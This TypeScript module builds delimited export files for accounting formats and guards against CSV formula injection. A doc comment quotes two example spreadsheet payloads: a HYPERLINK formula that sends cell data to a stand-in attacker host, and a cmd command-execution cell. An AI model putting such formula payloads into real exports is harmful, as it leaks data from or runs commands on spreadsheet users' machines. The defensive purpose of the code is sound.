/**
 * Delimited (CSV-like) files from a declarative, JSON-serialisable layout. Built-in formats
 * (Xero, GBAT10, ...) are such layouts, and a user "layout template" is a copy of one.
 */
import type { TextEncodingName } from '../../encoding/text-encoding.ts';
import { issue } from '../issues.ts';
import type { ExportIssue } from '../types.ts';
import { formatField, getFieldValue, type FieldFormat, type IssueRecord } from './field-format.ts';

/**
 * When a field is put in quotes (a quote inside a quoted field is doubled):
 * - `none`: never (a column's `quote: 'always'` aside); a value holding the delimiter or a line
 *   break is replaced per the layout's `replacements`, or without them is an error;
 * - `all`: every field;
 * - `text-only`: fields whose format is text (amounts, dates and numbers bare);
 * - `when-needed`: only fields holding the delimiter, a quote, a line break, or leading/trailing blanks (RFC 4180).
 */
export type QuotingRule = 'none' | 'all' | 'text-only' | 'when-needed';
export type LineEnding = 'CRLF' | 'LF';

/**
 * What a format without quoting writes in place of characters a plain split on the delimiter
 * cannot carry inside a value. Many importers (GBAT10, Visma Global, ...) split each line on the
 * delimiter and have no quoting rule, so a quoted `"Café; AS"` becomes two shifted columns there.
 * Each replacement is reported as a warning naming the record and the field.
 */
export interface FieldReplacements {
  /** Written for the delimiter inside a value; never the delimiter itself (`,` in a `;` file, `;` in a `,` file). */
  delimiter: string;
  /** Written for `"` inside a value (e.g. `'`), for readers that take a quote as the start of a quoted field. Absent: quotes are kept. */
  quote?: string;
  /** Written for a line break inside a value (default a space). */
  lineBreak?: string;
}

/**
 * CSV formula injection (OWASP "CSV Injection", issue 16): a spreadsheet opening a delimited file
 * runs a cell that starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?x="&A1)`,
 * `+cmd|' /C calc'!A0`), and a leading tab or carriage return can hide such a start. Text cells that
 * begin so are written with a `'` in front, which spreadsheets show as text.
 * - Only text cells: an amount, date, integer or quantity column writes a number, and `-1250.00`
 *   must stay a number. A text cell that is a plain number (`-12,50`, `+47 22 33 44 55`) is no
 *   formula either and stays as it is.
 * - `neutralise` is the default. `raw` is for files read by an accounting system's importer that
 *   takes each text byte as given (the format's module says why), and for a template whose user
 *   turned it off.
 */
export type FormulaCells = 'neutralise' | 'raw';

// Blanks in front do not stop every spreadsheet (a tab or CR is the OWASP case; builders write them as blanks).
const FORMULA_START = /^[\s\u00a0]*[=+\-@]|^[\t\r]/;
/** A signed plain number with grouping blanks, separators or a percent sign: not a formula. */
const PLAIN_NUMBER = /^[\s\u00a0]*[+-]?[\d .,\u00a0]*\d[\d .,\u00a0]*%?$/;

/** Whether a text cell would start a formula in a spreadsheet (see `FormulaCells`). */
export function looksLikeFormula(text: string): boolean {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
}

/** The text as a spreadsheet shows it as text: `'` in front of a would-be formula, else unchanged. */
export function neutraliseFormula(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text;
}

export interface DelimitedColumn {
  header: string;
  /** Path into the row object, e.g. `invoice.number`; see `getFieldValue`. */
  field?: string;
  /** A constant written in every row (used when `field` is absent). */
  value?: string;
  format?: FieldFormat;
  /** Overrides the layout's quoting rule for this column (e.g. a description always in quotes). */
  quote?: 'always' | 'never';
}

export interface DelimitedLayout {
  delimiter: string;
  quoting: QuotingRule;
  /**
   * With `quoting: 'none'`: replace what a plain split cannot carry (see `FieldReplacements`),
   * in every value, also inside a column's fixed `quote: 'always'` quotes. It is part of the
   * layout so that a layout template copied from a format keeps its rule.
   */
  replacements?: FieldReplacements;
  /** Write `""` for an empty field (when quoting is not `none`). */
  quoteEmpty: boolean;
  /** Text cells that a spreadsheet would run as a formula: `neutralise` (absent) or `raw`; see `FormulaCells`. */
  formulas?: FormulaCells;
  headerRow: boolean;
  /** Default decimal separator for amount and quantity columns without their own. */
  decimalSeparator: string;
  lineEnding: LineEnding;
  /** Also end the last record with a line ending (default true). */
  finalLineEnding?: boolean;
  encoding: TextEncodingName;
  columns: DelimitedColumn[];
}

export interface BuiltText {
  text: string;
  issues: ExportIssue[];
  /** The record each line of `text` came from (index 0 = line 1); undefined for header lines. */
  lineRecords: (IssueRecord | undefined)[];
  recordCount: number;
}

export interface RowSource<Row> {
  /** The record a row belongs to, for issue messages. */
  recordOf?: (row: Row) => IssueRecord | undefined;
}

export function lineBreak(ending: LineEnding): string {
  return ending === 'CRLF' ? '\r\n' : '\n';
}

function needsQuotes(text: string, delimiter: string): boolean {
  return text.includes(delimiter) || /["\r\n]/.test(text) || /^\s|\s$/.test(text);
}

export function quoteField(text: string, quoted: boolean): string {
  return quoted ? `"${text.replace(/"/g, '""')}"` : text;
}

function encodeCell(
  text: string,
  column: DelimitedColumn,
  layout: DelimitedLayout,
  report: (message: string) => void,
): string {
  const isText = (column.format?.type ?? 'text') === 'text';
  if (column.quote === 'always') return quoteField(text, true);
  if (column.quote === 'never')
    return encodeCell(text, { ...column, quote: undefined }, { ...layout, quoting: 'none' }, report);
  if (text === '') return layout.quoting !== 'none' && layout.quoteEmpty ? '""' : '';
  switch (layout.quoting) {
    case 'all':
      return quoteField(text, true);
    case 'text-only':
      return quoteField(text, isText || needsQuotes(text, layout.delimiter));
    case 'when-needed':
      return quoteField(text, needsQuotes(text, layout.delimiter));
    case 'none':
      if (text.includes(layout.delimiter) || /[\r\n]/.test(text))
        report(`holds the delimiter "${layout.delimiter}" or a line break, which a file without quotes cannot carry`);
      return text;
  }
}

/** The header line alone (also used by templates that write their own rows). */
export function delimitedHeader(layout: DelimitedLayout): string {
  const guard = layout.formulas !== 'raw';
  return layout.columns
    .map((c) =>
      encodeCell(guard ? neutraliseFormula(c.header) : c.header, { header: c.header }, layout, () => undefined),
    )
    .join(layout.delimiter);
}

/** How one column turns a row into its finished (formatted and quoted) cell; made once per build. */
type CellWriter<Row> = (row: Row, record: IssueRecord | undefined, issues: ExportIssue[]) => string;

function fieldReader(path: string | undefined, constant: string): (row: unknown) => unknown {
  if (path === undefined) return () => constant;
  // A plain property name (most columns) is read directly; paths go through getFieldValue.
  if (path !== '' && path !== '.' && !path.includes('.'))
    return (row) => (row === null || typeof row !== 'object' ? undefined : (row as Record<string, unknown>)[path]);
  return (row) => getFieldValue(row, path);
}

/** Replaces what `replacements` names in `text`; undefined when nothing was replaced. */
export function replaceUnquotable(
  text: string,
  delimiter: string,
  replacements: FieldReplacements,
): { text: string; replaced: string[] } | undefined {
  const replaced: string[] = [];
  let out = text;
  if (out.includes(delimiter)) {
    out = out.split(delimiter).join(replacements.delimiter);
    replaced.push(`"${delimiter}" by "${replacements.delimiter}"`);
  }
  if (replacements.quote !== undefined && out.includes('"')) {
    out = out.replace(/"/g, replacements.quote);
    replaced.push(`'"' by "${replacements.quote}"`);
  }
  if (/[\r\n]/.test(out)) {
    const lineBreak = replacements.lineBreak ?? ' ';
    out = out.replace(/\r\n|[\r\n]/g, lineBreak);
    replaced.push(`line breaks by "${lineBreak}"`);
  }
  return replaced.length > 0 ? { text: out, replaced } : undefined;
}

function cellWriter<Row>(layout: DelimitedLayout, column: DelimitedColumn): CellWriter<Row> {
  const read = fieldReader(column.field, column.value ?? '');
  const format = column.format;
  const plainWhenNeeded = layout.quoting === 'when-needed' && column.quote === undefined;
  const guardFormulas = layout.formulas !== 'raw' && (format?.type ?? 'text') === 'text';
  // One test for what RFC 4180 quoting needs (delimiter, quote, line break, blank at either end).
  const special = new RegExp(`${escapeRegExp(layout.delimiter)}|["\\r\\n]|^\\s|\\s$`);
  const replacements = layout.quoting === 'none' ? layout.replacements : undefined;
  // Tested per cell before any work, so values without such characters cost one regex test.
  const unquotable = replacements
    ? new RegExp(`${escapeRegExp(layout.delimiter)}|[\\r\\n]${replacements.quote !== undefined ? '|"' : ''}`)
    : undefined;
  return (row, record, issues) => {
    let text = formatField(read(row), format, { record, field: column.header, issues }, layout.decimalSeparator);
    if (guardFormulas && text !== '' && looksLikeFormula(text)) text = `'${text}`;
    if (replacements !== undefined && unquotable !== undefined && unquotable.test(text)) {
      const result = replaceUnquotable(text, layout.delimiter, replacements);
      if (result) {
        issues.push(
          issue(
            'warning',
            'separator-replaced',
            { value: text, written: result.text, replaced: result.replaced.join(', '), delimiter: layout.delimiter },
            record,
            column.header,
          ),
        );
        text = result.text;
      }
    }
    if (plainWhenNeeded)
      return text === '' ? (layout.quoteEmpty ? '""' : '') : special.test(text) ? quoteField(text, true) : text;
    return encodeCell(text, column, layout, (problem) =>
      issues.push(issue('error', 'unquotable-field', { value: text, problem }, record, column.header)),
    );
  };
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** Why the layout's replacements would break its own lines (a replacement holding the delimiter, a quote or a line break), or undefined. */
export function replacementProblem(layout: Pick<DelimitedLayout, 'delimiter' | 'replacements'>): string | undefined {
  const r = layout.replacements;
  if (!r || layout.delimiter === '') return undefined;
  for (const [what, value] of [
    ['delimiter', r.delimiter],
    ['quote', r.quote ?? ''],
    ['line break', r.lineBreak ?? ''],
  ] as const)
    if (value.includes(layout.delimiter) || /[\r\n]/.test(value))
      return `The replacement for a ${what} inside a value ("${value}") must not hold the delimiter "${layout.delimiter}" or a line break.`;
  return undefined;
}

export function buildDelimited<Row>(
  layout: DelimitedLayout,
  rows: readonly Row[],
  source: RowSource<Row> = {},
): BuiltText {
  const issues: ExportIssue[] = [];
  const badReplacement = replacementProblem(layout);
  if (badReplacement) issues.push(issue('error', 'bad-replacement', { problem: badReplacement }));
  const lines: string[] = [];
  const lineRecords: (IssueRecord | undefined)[] = [];
  if (layout.headerRow) {
    lines.push(delimitedHeader(layout));
    lineRecords.push(undefined);
  }
  const writers = layout.columns.map((column) => cellWriter<Row>(layout, column));
  const delimiter = layout.delimiter;
  // One array reused for every row, joined into a flat string: concatenating 30 cells left a
  // tree of 30 string pieces per line for the collector.
  const cells: string[] = new Array<string>(writers.length);
  for (const row of rows) {
    const record = source.recordOf?.(row);
    for (let i = 0; i < writers.length; i++) cells[i] = writers[i]!(row, record, issues);
    lines.push(cells.join(delimiter));
    lineRecords.push(record);
  }
  const eol = lineBreak(layout.lineEnding);
  const text = lines.join(eol) + (lines.length > 0 && layout.finalLineEnding !== false ? eol : '');
  return { text, issues, lineRecords, recordCount: rows.length };
}

/** A deep copy that is guaranteed to be plain JSON (for storing a layout in a user template). */
export function cloneLayout<L extends object>(layout: L): L {
  return JSON.parse(JSON.stringify(layout)) as L;
}
